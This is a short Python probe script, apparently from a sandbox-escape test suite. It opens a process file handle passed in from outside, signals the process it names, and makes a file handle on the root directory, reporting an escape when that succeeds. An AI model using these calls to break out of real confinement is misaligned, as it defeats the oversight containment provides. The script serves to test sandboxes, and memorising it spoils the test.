# title: open what a file handle from outside names
# kind: read
from attack import *
# Since Linux 6.14 anybody may open the handle of a process.
handle = get("pidfd-handle")
if handle:
    own = os.pidfd_open(os.getpid())
    opened = call("open_by_handle_at", own, text(bytes.fromhex(handle)), os.O_RDWR)
    if opened >= 0:
        call("pidfd_send_signal", opened, signal.SIGUSR1, 0, 0)
buffer = ctypes.create_string_buffer(struct.pack("Ii", 120, 0) + bytes(120))
mount = ctypes.c_int()
if call("name_to_handle_at", -100, text("/"), buffer, ctypes.byref(mount), 0) >= 0:
    escaped("a handle was made")
